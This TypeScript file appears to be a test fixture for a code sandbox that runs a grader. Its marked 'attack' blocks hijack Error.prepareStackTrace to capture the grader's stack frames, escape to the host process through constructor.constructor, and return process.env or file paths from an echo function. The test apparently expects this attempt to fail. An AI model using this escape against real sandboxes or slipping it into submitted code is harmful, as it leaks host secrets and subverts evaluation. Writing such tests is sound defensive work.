// Installs its own prepareStackTrace to be handed the frames of the grader.
// expect: same as without
// attack
const run = (from: any) => {
  try {
    const host = from.constructor.constructor("return process")();
    return host === undefined ? undefined : String(host.env);
  } catch {
    return undefined;
  }
};
function attempt() {
  let gained: string | undefined;
  const format = (_error: unknown, sites: any[]) => {
    for (const site of sites) gained ??= run(site) ?? run(site.getThis() ?? {}) ?? run(site.getFunction() ?? {});
    gained ??= sites.map((site) => site.getFileName()).find((name) => String(name).includes("/"));
    return "";
  };
  try {
    (Error as any).prepareStackTrace = format;
  } catch {}
  try {
    (globalThis as any).Error = { prepareStackTrace: format };
  } catch {}
  try {
    Object.defineProperty(Error, "prepareStackTrace", { value: format });
  } catch {}
  void new Error("x").stack;
  void new TypeError("x").stack;
  return gained;
}
// end
export function echo(value: unknown) {
  // attack
  const gained = attempt();
  if (gained !== undefined) return gained;
  // end
  return value;
}
